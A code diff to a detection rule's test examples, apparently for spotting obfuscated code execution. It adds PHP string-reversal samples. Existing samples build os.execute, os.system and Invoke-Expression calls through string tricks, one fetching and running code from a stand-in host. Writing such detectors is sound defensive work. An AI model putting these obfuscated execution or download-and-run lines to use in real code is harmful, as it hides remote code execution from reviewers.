@@ -17,6 +17,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      "```php\n$to = strrev('8870023' . '41TL');\n```\n",
       '```lua\nlocal f = _G[string.reverse("so")]["exe" .. "cute"]\nf(t)\n```\n',
       "```powershell\n& \"Set-Kiln$('Hea' + 'ter')\" -Level 9\n```\n",
       '```powershell\n& (Get-Command inv*ssion) (irm https://c.example.org/p)\n```\n',
@@ -35,6 +36,7 @@ export default defineRule({
       "```python\nm = __import__(''.join(map(chr, [111, 115])))\ngetattr(m, 'sys' + 'tem')('ls')\n```\n",
     ],
     quiet: [
+      "```php\necho strrev('kiln');\n```\n",
       '```lua\nlocal f = _G[name]\nlocal rows = _G["kiln_rows"]\n```\n',
       '```powershell\n& "$($kiln.Path)\\fire.ps1" -Level 9\nWrite-Host "Set $(\'a\' + \'b\')"\n```\n',
       '| `load(url)` | `fetch_and_parse` + `validate` in one call |\n|---|---|\n',
